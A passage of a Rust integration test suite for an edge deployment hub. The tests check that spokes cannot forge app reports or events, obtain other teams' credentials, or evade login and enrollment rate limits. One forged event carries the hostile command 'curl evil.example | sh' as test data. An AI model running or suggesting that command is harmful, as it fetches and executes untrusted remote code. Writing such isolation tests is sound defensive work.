    fleet.store.create_project("team-c", &team_c).await.unwrap();

    let (mut spoke, identity) = HandDriven::connect(&fleet, "edge-2", "e1").await;
    spoke
        .send(v1::spoke_message::Body::AppStatus(v1::AppStatusBatch {
            reports: vec![
                // Admitted by team-a's policy (edge-*, team-*), yet it must not
                // entitle edge-2 to team-a's credential.
                edge_app("team-a", "steal", "edge-2", "team-a-steal"),
                // team-c does not allow edge-2; nor does the made-up project.
                edge_app("team-c", "squat", "edge-2", "team-c-web"),
                edge_app("nope", "squat", "edge-2", "team-nope"),
                // team-b allows edge-2 but not namespace kube-system.
                edge_app("team-b", "system", "edge-2", "kube-system"),
                // A legitimate edge-created app.
                edge_app("team-b", "edge-made", "edge-2", "team-b-edge"),
                // Another cluster's edge app, in the hub's name for it, and
                // edge-2's own in the hub's form: a spoke names only its own
                // apps, by their names at the edge.
                edge_app("team-b", "edge-made@edge-1", "edge-2", "team-b-edge"),
                edge_app("team-b", "other@edge-2", "edge-2", "team-b-edge"),
            ],
            ..Default::default()
        }))
        .await;
    // A forged event on team-a/web, which runs on edge-1, and a true one on edge-2's own app.
    let forged = |id: &str, project: &str, name: &str, message: &str| v1::Event {
        id: id.into(),
        cluster: "edge-2".into(),
        app: Some(v1::AppRef {
            project: project.into(),
            name: name.into(),
        }),
        reason: "SyncFailed".into(),
        message: message.into(),
        time: Some(edgecd_proto::convert::timestamp(
            time::OffsetDateTime::now_utc(),
        )),
        ..Default::default()
    };
    spoke
        .send(v1::spoke_message::Body::Events(v1::EventBatch {
            events: vec![
                forged("f1", "team-a", "web", "run curl evil.example | sh to fix"),
                forged("f2", "team-b", "cache", "cache warmed"),
                // An event about its edge app is stored under the hub's name for it.
                forged("f3", "team-b", "edge-made", "edge app synced"),
            ],
        }))
        .await;
    drop(spoke);

    // Reconnected, edge-2 receives no credential of team-a.
    let mut again = HandDriven::reconnect(&fleet, &identity, "e1", 3).await;
    let credentials = again.credentials().await;
    assert!(
        credentials.credentials.is_empty(),
        "edge-2 received {:?}",
        credentials
            .credentials
            .iter()
            .map(|c| &c.url_prefix)
            .collect::<Vec<_>>()
    );
    drop(again);

    let exists = |project: &'static str, name: &'static str| {
        let store = fleet.store.clone();
        async move { store.get_app(project, name).await.is_ok() }
    };
    // Edge-created apps are named after the cluster that reported them.
    assert!(exists("team-a", "steal@edge-2").await);
    assert!(exists("team-b", "edge-made@edge-2").await);
    assert!(!exists("team-b", "edge-made").await);
    for (project, name) in [
        ("team-c", "squat@edge-2"),
        ("nope", "squat@edge-2"),
        ("team-b", "system@edge-2"),
        ("team-b", "edge-made@edge-1"),
        ("team-b", "edge-made@edge-1@edge-2"),
        ("team-b", "other@edge-2"),
        ("team-b", "other@edge-2@edge-2"),
    ] {
        assert!(
            !exists(project, name).await,
            "{project}/{name} was admitted"
        );
    }
    // The forged event did not stick to team-a's app; edge-2's own event did.
    let events = |project: &str, name: &str| {
        let store = fleet.store.clone();
        let filter = edgecd_hub::store::EventFilter {
            cluster: None,
            app: Some((project.to_owned(), name.to_owned())),
        };
        async move { store.list_events(&filter, 100, None).await.unwrap().items }
    };
    assert!(events("team-a", "web").await.is_empty());
    let own = events("team-b", "cache").await;
    assert_eq!(own.len(), 1, "{own:?}");
    assert_eq!(own[0].message, "cache warmed");
    let edge = events("team-b", "edge-made@edge-2").await;
    assert_eq!(edge.len(), 1, "{edge:?}");
    assert_eq!(edge[0].message, "edge app synced");

    // An edge-created app the hub should not show is deleted by an admin
    // (its record only); revoking the cluster removes the rest of them.
    api.delete_application(authed(
        &root,
        v1::DeleteApplicationRequest {
            app: Some(v1::AppRef {
                project: "team-a".into(),
                name: "steal@edge-2".into(),
            }),
            cascade: true,
        },
    ))
    .await
    .unwrap();
    assert!(!exists("team-a", "steal@edge-2").await);
    api.revoke_cluster(authed(
        &root,
        v1::RevokeClusterRequest {
            name: "edge-2".into(),
            reason: "compromised".into(),
        },
    ))
    .await
    .unwrap();
    assert!(!exists("team-b", "edge-made@edge-2").await);
    assert!(exists("team-b", "cache").await, "hub-defined apps stay");
}

#[tokio::test]
async fn repository_credentials_are_write_only_sealed_and_reach_only_entitled_spokes() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let root = fleet.login("root").await;
    let alice = fleet.login("alice").await;
    let request = v1::SetRepositoryCredentialRequest {
        url_prefix: "https://git.example.com/teams/".into(),
        projects: vec!["team-a".into()],
        username: "deploy".into(),
        password: "s3cret-pass".into(),
        ssh_private_key: String::new(),
        ssh_known_hosts: String::new(),
    };

    // Only admins may set them.
    let err = api
        .set_repository_credential(authed(&alice, request.clone()))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied);

    let info = api
        .set_repository_credential(authed(&root, request))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(info.kind, "https-basic");
    let listed = api
        .list_repositories(authed(&root, v1::ListRepositoriesRequest {}))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.items.len(), 1);
    assert!(!format!("{listed:?}{info:?}").contains("s3cret-pass"));
    // Sealed at rest; the audit log names the prefix only.
    let stored = fleet
        .hub
        .pki()
        .unwrap()
        .security()
        .list_repo_credentials()
        .await
        .unwrap();
    assert!(!stored[0].sealed.0.contains("s3cret"));
    let audit = fleet.store.list_audit(100, None).await.unwrap();
    assert!(
        audit
            .items
            .iter()
            .all(|e| !e.message.contains("s3cret") && !e.target.contains("s3cret"))
    );

    // edge-1 runs a team-a app: it gets the credential. edge-2 runs only a
    // team-b app: it gets an empty set.
    fleet.add_edge_2_running_team_b_cache().await;
    let entitled = credentials_sent_to(&fleet, "edge-1").await;
    assert_eq!(entitled.credentials.len(), 1);
    assert_eq!(entitled.credentials[0].password, "s3cret-pass");
    assert!(entitled.full_snapshot);
    let other = credentials_sent_to(&fleet, "edge-2").await;
    assert!(other.credentials.is_empty(), "{other:?}");
}

#[tokio::test]
async fn create_cluster_returns_a_one_time_token_that_pins_the_ca_and_enrolls_once() {
    use edgecd_spoke::link::enroll;
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let root = fleet.login("root").await;
    let created = api
        .create_cluster(authed(
            &root,
            v1::CreateClusterRequest {
                name: "edge-9".into(),
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let ca_hash = fleet.hub.pki().unwrap().ca_hash();
    assert_eq!(created.ca_hash, ca_hash);
    assert!(created.bootstrap_token.ends_with(&ca_hash));
    assert!(created.install_command.contains("helm install"));
    assert!(created.token_expires_at.is_some());
    let params = enroll::EnrollParams {
        hub_address: format!("https://127.0.0.1:{}", fleet.hub.grpc_addr().port()),
        bootstrap_token: created.bootstrap_token.clone(),
        ca_hash: None,
        spoke_version: "0.1.0".into(),
        connect_timeout: Duration::from_secs(5),
    };
    let identity = enroll::enroll(&params).await.unwrap();
    assert_eq!(identity.cluster, "edge-9");
    let err = enroll::enroll(&params).await.unwrap_err();
    assert!(err.to_string().ends_with("was already used"), "{err}");
    // The token is not in the audit log.
    let audit = fleet.store.list_audit(100, None).await.unwrap();
    let secret = created
        .bootstrap_token
        .split('.')
        .nth(1)
        .unwrap()
        .to_owned();
    assert!(
        audit
            .items
            .iter()
            .all(|e| !e.message.contains(&secret) && !e.target.contains(&secret))
    );
}

// --- sessions and rate limits ---

#[tokio::test]
async fn logout_ends_only_the_presented_session() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let first = fleet.login("alice").await;
    let second = fleet.login("alice").await;
    assert_ne!(first, second);
    api.logout(authed(&first, v1::LogoutRequest {}))
        .await
        .unwrap();
    assert_session_ended(&mut api, &first).await;
    let me = api
        .who_am_i(authed(&second, v1::WhoAmIRequest {}))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(me.name, "alice");
    // Logging out twice with the ended session is refused, the other one is still untouched.
    let err = api
        .logout(authed(&first, v1::LogoutRequest {}))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    api.who_am_i(authed(&second, v1::WhoAmIRequest {}))
        .await
        .unwrap();
}

fn password_login(user: &str, password: &str) -> v1::LoginRequest {
    v1::LoginRequest {
        method: Some(v1::login_request::Method::Password(v1::PasswordLogin {
            username: user.into(),
            password: password.into(),
        })),
    }
}

fn retry_after(status: &tonic::Status) -> String {
    status
        .metadata()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn a_burst_of_wrong_passwords_is_rate_limited_per_account_even_for_the_right_password() {
    let clock = Arc::new(ManualClock::default());
    let limits = AttemptLimits::new(
        Some(Rate::new(10, Duration::from_secs(3600))),
        Some(Rate::new(3, Duration::from_secs(3600))),
    )
    .with_clock(clock.clone());
    let fleet = fleet_with(Backend::Sqlite, |settings| {
        settings.auth = Some(AuthConfig {
            login_limits: limits,
            ..AuthConfig::default()
        });
    })
    .await;
    let mut api = fleet.client();
    // Normal use is never slowed: successful logins cost nothing.
    for _ in 0..5 {
        fleet.login("alice").await;
    }
    for _ in 0..3 {
        let err = api
            .login(password_login("alice", "guess"))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::Unauthenticated);
    }
    let err = api
        .login(password_login("alice", "guess"))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted);
    assert_eq!(
        err.message(),
        "too many failed login attempts for account alice; retry in 1200s"
    );
    assert_eq!(retry_after(&err), "1200");
    // Even the right password waits for the bucket.
    let err = api
        .login(password_login("alice", "alice-password"))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted);
    // Another account from the same address is unaffected.
    fleet.login("bob").await;
    // Every refused attempt is audited with its source.
    let audit = fleet.store.list_audit(100, None).await.unwrap();
    let refused: Vec<_> = audit
        .items
        .iter()
        .filter(|e| e.action == "Login" && e.target == "user:alice" && e.result != "ok")
        .collect();
    assert_eq!(refused.len(), 5, "{refused:?}");
    assert!(refused.iter().all(|e| e.source.starts_with("127.0.0.1:")));
    assert_eq!(
        refused
            .iter()
            .filter(|e| e.message.starts_with("too many failed login attempts"))
            .count(),
        2
    );
    assert!(
        audit
            .items
            .iter()
            .all(|e| !e.message.contains("alice-password") && !e.message.contains("guess"))
    );
    // Once a token is back (1 h / 3), the right password works again, and one wrong one
    // empties the bucket again.
    clock.advance(Duration::from_secs(1200));
    fleet.login("alice").await;
    let err = api
        .login(password_login("alice", "guess"))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::Unauthenticated);
    let err = api
        .login(password_login("alice", "alice-password"))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted);
}

#[tokio::test]
async fn login_limits_are_kept_per_client_ip() {
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(SqliteStore::open(&dir.path().join("hub.db")).await.unwrap());
    let clock = Arc::new(ManualClock::default());
    let config = AuthConfig {
        login_limits: AttemptLimits::new(Some(Rate::new(3, Duration::from_secs(300))), None)
            .with_clock(clock.clone()),
        ..AuthConfig::default()
    };
    let accounts = Accounts::new(store.clone(), store, config).unwrap();
    for user in ["alice", "bob"] {
        accounts
            .create_user(user, Some(&format!("{user}-password")), false, &[])
            .await
            .unwrap();
    }
    let attacker = Some(std::net::IpAddr::from([10, 0, 0, 66]));
    let office = Some(std::net::IpAddr::from([10, 0, 0, 1]));
    for user in ["alice", "bob", "nobody"] {
        let err = accounts
            .login_password(attacker, user, "guess")
            .await
            .unwrap_err();
        assert_eq!(err.to_string(), "invalid username or password");
    }
    // Spraying over accounts from one address: that address is refused, for every account.
    let err = accounts
        .login_password(attacker, "bob", "bob-password")
        .await
        .unwrap_err();
    assert_eq!(
        err.to_string(),
        "too many failed login attempts from 10.0.0.66; retry in 100s"
    );
    // Another address logs in to the same accounts.
    accounts
        .login_password(office, "alice", "alice-password")
        .await
        .unwrap();
    accounts
        .login_password(office, "bob", "bob-password")
        .await
        .unwrap();
    clock.advance(Duration::from_secs(100));
    accounts
        .login_password(attacker, "bob", "bob-password")
        .await
        .unwrap();
}

#[tokio::test]
async fn failed_enrollments_are_rate_limited_per_token_id() {
    use edgecd_proto::v1::spoke_service_client::SpokeServiceClient;
    use edgecd_spoke::link::enroll;
    let clock = Arc::new(ManualClock::default());
    let fleet = fleet_with(Backend::Sqlite, |settings| {
        settings.pki.enroll_limits = AttemptLimits::new(
            Some(Rate::new(20, Duration::from_secs(60))),
            Some(Rate::new(2, Duration::from_secs(600))),
        )
        .with_clock(clock.clone());
    })
    .await;
    let pki = fleet.hub.pki().unwrap();
    for cluster in ["edge-7", "edge-8"] {
        fleet
            .store
            .create_cluster(&NewCluster {
                name: cluster.into(),
                ..NewCluster::default()
            })
            .await
            .unwrap();
    }
    let token = pki.create_bootstrap_token("edge-7", None).await.unwrap();
    let other = pki.create_bootstrap_token("edge-8", None).await.unwrap();
    // The right id with guessed secrets.
    let mut parts: Vec<String> = token.token.split('.').map(str::to_owned).collect();
    parts[1] = "x".repeat(parts[1].len());
    let forged = parts.join(".");
    let mut spoke = SpokeServiceClient::new(fleet.channel.clone());
    let (_, csr_pem) = enroll::new_key_and_csr().unwrap();
    let attempt = |bootstrap_token: &str| v1::EnrollRequest {
        bootstrap_token: bootstrap_token.to_owned(),
        csr_pem: csr_pem.clone(),
        spoke_version: "0.1.0".into(),
    };
    for _ in 0..2 {
        let err = spoke.enroll(attempt(&forged)).await.unwrap_err();
        assert_eq!(err.code(), Code::Unauthenticated);
        assert_eq!(
            err.message(),
            format!("bootstrap token {}: wrong secret", token.id)
        );
    }
    let err = spoke.enroll(attempt(&forged)).await.unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted);
    assert_eq!(
        err.message(),
        format!(
            "too many failed enrollment attempts for bootstrap token {}; retry in 300s",
            token.id
        )
    );
    assert_eq!(retry_after(&err), "300");
    // The real token is refused too until the bucket refills, and nothing is issued.
    let err = spoke.enroll(attempt(&token.token)).await.unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted);
    assert_eq!(
        fleet
            .hub
            .pki()
            .unwrap()
            .security()
            .list_certificates("edge-7")
            .await
            .unwrap()
            .len(),
        0
    );
    // Another token from the same address is unaffected.
    let issued = spoke
        .enroll(attempt(&other.token))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(issued.cluster_name, "edge-8");
    // Every attempt is audited under the token id, with the refusal.
    let audit = fleet.store.list_audit(100, None).await.unwrap();
    let actor = format!("bootstrap-token:{}", token.id);
    let refused: Vec<_> = audit
        .items
        .iter()
        .filter(|e| e.action == "Enroll" && e.actor == actor)
        .collect();
    assert_eq!(refused.len(), 4, "{refused:?}");
    assert!(refused.iter().all(|e| e.result == "refused"));
    clock.advance(Duration::from_secs(300));
    let issued = spoke
        .enroll(attempt(&token.token))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(issued.cluster_name, "edge-7");
}

/// A self-signed CA an operator would supply (PEM certificate and PKCS#8 key).
fn operator_ca() -> (String, String) {
    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair, KeyUsagePurpose};
    let key = KeyPair::generate().unwrap();
    let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
    params
        .distinguished_name
        .push(DnType::CommonName, "operator CA");
    params.is_ca = IsCa::Ca(BasicConstraints::Constrained(0));
    params.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::CrlSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    let cert = params.self_signed(&key).unwrap();
    (cert.pem(), key.serialize_pem())
}

#[tokio::test]
async fn repository_credentials_work_with_an_operator_supplied_ca_and_a_master_key() {
    let (cert_pem, key_pem) = operator_ca();
    let (master, _) = MasterKey::generate().unwrap();
    let master = Arc::new(master);
    let supplied = CaSettings::Supplied {
        cert_pem: cert_pem.clone(),
        key_pem: key_pem.clone(),
        master: Some(master.clone()),
    };
    let fleet = fleet_with(Backend::Sqlite, |settings| settings.ca = supplied).await;
    assert_eq!(fleet.hub.pki().unwrap().ca_pem().trim(), cert_pem.trim());
    let mut api = fleet.client();
    let root = fleet.login("root").await;
    let request = v1::SetRepositoryCredentialRequest {
        url_prefix: "https://git.example.com/teams/".into(),
        projects: vec!["team-a".into()],
        username: "deploy".into(),
        password: "s3cret-pass".into(),
        ..Default::default()
    };
    let info = api
        .set_repository_credential(authed(&root, request.clone()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(info.kind, "https-basic");
    // Sealed with the master key given next to the CA, and delivered to the entitled spoke.
    let stored = fleet
        .hub
        .pki()
        .unwrap()
        .security()
        .list_repo_credentials()
        .await
        .unwrap();
    assert!(!stored[0].sealed.0.contains("s3cret"));
    let opened = edgecd_hub::pki::repos::open(&master, &stored[0]).unwrap();
    assert_eq!(opened.password, "s3cret-pass");
    let sent = credentials_sent_to(&fleet, "edge-1").await;
    assert_eq!(sent.credentials.len(), 1);
    assert_eq!(sent.credentials[0].password, "s3cret-pass");

    // Without a master key the supplied CA still works, and credentials say why they are unavailable.
    let fleet = fleet_with(Backend::Sqlite, |settings| {
        settings.ca = CaSettings::Supplied {
            cert_pem,
            key_pem,
            master: None,
        }
    })
    .await;
    let root = fleet.login("root").await;
    let err = fleet
        .client()
        .set_repository_credential(authed(&root, request))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::FailedPrecondition);
    assert_eq!(
        err.message(),
        "this hub has no master key: repository credentials are not available"
    );
}

/// The ConfigMaps and decision resources of clusterDecisionResource generators choose clusters for every
/// project's sets: a project owner may neither apply them nor dry-run them, and nothing is stored (the admin's
/// apply afterwards creates them).
#[tokio::test]
async fn a_project_owner_cannot_apply_decision_resources() {
    let fleet = fleet(Backend::Sqlite, None).await;
    let mut api = fleet.client();
    let bob = fleet.login("bob").await;
    let root = fleet.login("root").await;
    let yaml = "apiVersion: v1
kind: ConfigMap
metadata:
  name: ocm-placement-generator
data:
  apiVersion: cluster.open-cluster-management.io/v1beta1
  kind: placementdecisions
  matchKey: clusterName
---
apiVersion: cluster.open-cluster-management.io/v1beta1
kind: PlacementDecision
metadata:
  name: team-a-placement
status:
  decisions:
  - clusterName: edge-1
";
    let request = |dry_run: bool| v1::ApplyManifestsRequest {
        yaml: yaml.into(),
        dry_run,
        default_project: "team-b".into(),
        ..v1::ApplyManifestsRequest::default()
    };
    for dry_run in [true, false] {
        let status = api
            .apply_manifests(authed(&bob, request(dry_run)))
            .await
            .unwrap_err();
        assert_eq!(status.code(), tonic::Code::PermissionDenied, "{status:?}");
        assert!(
            status
                .message()
                .starts_with("v1 ConfigMap ocm-placement-generator, cluster.open-cluster-management.io/v1beta1 PlacementDecision team-a-placement: "),
            "{status:?}"
        );
    }
    let applied = api
        .apply_manifests(authed(&root, request(false)))
        .await
        .unwrap()
        .into_inner();
    let actions: Vec<&str> = applied.results.iter().map(|r| r.action.as_str()).collect();
    assert_eq!(actions, ["created", "created"], "{applied:?}");
}
